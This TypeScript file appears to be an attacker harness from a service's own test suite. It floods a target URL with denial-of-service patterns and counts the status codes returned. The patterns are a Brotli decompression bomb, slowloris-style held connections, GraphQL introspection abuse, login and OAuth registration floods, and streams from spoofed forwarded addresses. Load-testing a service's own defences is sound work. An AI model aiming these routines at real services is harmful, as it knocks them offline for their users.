/**
 * An attacker in a separate process: `attack.js NAME URL SECONDS NUMBER`. It has no token. Prints `begun` after its
 * first requests. At the end, or earlier on SIGTERM, prints the number of responses per status as JSON.
 */
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { brotliCompressSync, constants, gzipSync } from 'node:zlib';

const [name = '', url = '', seconds = '4', number = ''] = process.argv.slice(2);
const { hostname, port } = new URL(url);
/** Maximum wait for a first response, in milliseconds. */
const ANSWERED_MS = 300_000;
let startedCount = 0;
let until = 0;
// Ends the attack: responses to requests in flight are still counted.
process.once('SIGTERM', () => (until = 0));
const answers: Record<string, number> = {};
const note = (answer: string): void => void (answers[answer] = (answers[answer] ?? 0) + 1);

interface AttackRequest {
  readonly path: string;
  readonly body?: string;
  /** The client address that the proxy in front of the service reports. */
  readonly from?: string;
  readonly agent: Agent;
}

/** The time starts with the first request, because some attacks take long to prepare. */
function begin(): void {
  startedCount = performance.now();
  until = startedCount + Number(seconds) * 1_000;
  process.stdout.write('begun\n');
}

/** Sends a request and reads the response. */
const sendAttack = ({ path, body, from = '203.0.113.1', agent }: AttackRequest): Promise<void> =>
  new Promise((resolve) => {
    const sent = request({
      hostname,
      port,
      path,
      agent,
      method: body === undefined ? 'GET' : 'POST',
      headers: { 'x-forwarded-for': from, ...(body !== undefined && { 'content-type': 'application/json' }) },
    });
    const over = (what: string) => {
      note(what);
      resolve();
    };
    sent.on('response', (response) => response.resume().once('close', () => over(String(response.statusCode))));
    sent.on('error', () => over('cut'));
    sent.end(body);
  });

/** Opens this many connections, each of which sends requests until the end. */
async function sendRepeatedly(
  connections: number,
  shotOf: (turn: number) => Omit<AttackRequest, 'agent'>,
): Promise<void> {
  begin();
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  let turn = 0;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (performance.now() < until) await sendAttack({ ...shotOf(turn++), agent });
    }),
  );
  agent.destroy();
}

/**
 * Opens this many connections that send these bytes. The responses are read or left unread until the end. If they are
 * read, waits at least for one response: on a slow machine the connections alone take seconds.
 */
async function holdOpen(connections: number, bytes: Buffer, reads: boolean): Promise<void> {
  begin();
  const sockets: Socket[] = [];
  for (let count = 0; count < connections; count++) {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    socket.once('close', () => note('closed'));
    if (reads)
      socket.once('data', (data: Buffer) => note(/^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? '?'));
    else socket.pause();
    socket.write(bytes);
    sockets.push(socket);
    if (count % 50 === 0) await sleep(1);
  }
  const isAnswered = () => !reads || Object.keys(answers).length > 0;
  while (performance.now() < until || (!isAnswered() && performance.now() < startedCount + ANSWERED_MS))
    await sleep(20);
  for (const socket of sockets) socket.destroy();
}

const bodyHead = (encoding: string, length: number): Buffer =>
  Buffer.from(
    `POST /api/v1/otep/validate HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 203.0.113.1\r\nContent-Type: application/json\r\nContent-Encoding: ${encoding}\r\nContent-Length: ${length}\r\n\r\n`,
  );

const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
  /** No attack: requests the smallest page as fast as possible. */
  none: () => sendRepeatedly(20, () => ({ path: '/health/live' })),
  /** The same with as many connections as the endless sign-ins. */
  crowd: () => sendRepeatedly(600, () => ({ path: '/health/live' })),
  /** H1: requests large pages repeatedly. */
  pages: () => sendRepeatedly(20, (turn) => ({ path: turn % 2 ? '/api/docs' : '/api/openapi.json' })),
  /** H1: requests pages and never reads them. */
  unread: () => holdOpen(200, Buffer.from('GET /api/docs HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(20)), false),
  /** H2: sends the start of a small body that decompresses to a large one. */
  brotli: () => {
    const params = { [constants.BROTLI_PARAM_LGWIN]: 24, [constants.BROTLI_PARAM_SIZE_HINT]: 1 << 27 };
    const bomb = brotliCompressSync(Buffer.alloc(1 << 27, 32), { params });
    return holdOpen(400, Buffer.concat([bodyHead('br', bomb.length), bomb.subarray(0, 60)]), true);
  },
  /** H2: sends bodies just below the limit that never end. */
  bodies: () => {
    const body = gzipSync(Buffer.alloc(1_000_000, 32), { level: 1 });
    return holdOpen(400, Buffer.concat([bodyHead('gzip', body.length + 1), body]), true);
  },
  /** N2: sends bodies that never end to an interface that needs no token, until there is room for none. */
  'graphql-bodies': async () => {
    const head = Buffer.from(
      'POST /api/graphql HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 203.0.113.1\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n',
    );
    await holdOpen(300, Buffer.concat([head, Buffer.alloc(1_048_000, 32)]), true);
  },
  /** N3: asks for large introspections, cached ones and others. */
  introspection: () => {
    const fields =
      '{types{name fields{name args{name description type{name kind ofType{name kind}}}} inputFields{name}}}';
    return sendRepeatedly(20, (turn) => ({
      path: '/api/graphql',
      body: JSON.stringify({
        query: [
          `{${Array.from({ length: 8 }, (_, alias) => `a${alias}:__schema${fields}`).join(' ')}}`,
          `{__schema${fields}}`,
          `{a${turn}:__schema${fields}}`,
          `{${Array.from({ length: 15 }, (_, alias) => `a${alias}:__type(name:"Query")${fields.replace('types', 'fields')}`).join(' ')}}`,
        ][turn % 4],
      }),
    }));
  },
  /** M3: one client signs in over 600 parallel connections, repeatedly. */
  'sign-ins': () =>
    sendRepeatedly(600, (turn) => ({
      path: '/api/v1/user/login',
      body: JSON.stringify({ email: `flood${turn}@example.com`, password: 'wrong password here' }),
    })),
  /** M5: registers clients. */
  registrations: () =>
    sendRepeatedly(20, (turn) => ({
      path: '/oauth/register',
      body: JSON.stringify({
        client_name: `agent ${turn}`,
        redirect_uris: Array.from({ length: 10 }, (_, index) => `https://a.example/${index}/${'x'.repeat(480)}`),
      }),
    })),
  /** M5: starts sign-ins that are never completed. */
  authorizations: async () => {
    const agent = new Agent();
    const registered = await fetch(`${url}/oauth/register`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ redirect_uris: ['https://a.example/cb'] }),
    });
    const { client_id } = (await registered.json()) as { client_id: string };
    agent.destroy();
    const parameters = new URLSearchParams({
      client_id,
      response_type: 'code',
      redirect_uri: 'https://a.example/cb',
      code_challenge: 'x'.repeat(43),
      code_challenge_method: 'S256',
      state: 's'.repeat(8_000),
    });
    await sendRepeatedly(20, () => ({ path: `/oauth/authorize?${parameters.toString()}` }));
  },
  /** M6: opens streams from a hundred addresses. */
  streams: async () => {
    begin();
    const open = Array.from({ length: 1_000 }, (_, index) => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      socket.once('data', (data: Buffer) => note(/^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? '?'));
      const body = JSON.stringify({
        query: `subscription { trackingEvents(trackingNumber: "${number}") { statusCode } }`,
      });
      socket.write(
        `POST /api/graphql HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 198.51.100.${index % 100}\r\nAccept: text/event-stream\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
      );
      return socket;
    });
    while (performance.now() < until) await sleep(20);
    for (const socket of open) socket.destroy();
  },
};

await ATTACKS[name]!();
process.stdout.write(`${JSON.stringify(answers)}\n`);
process.exit(0);
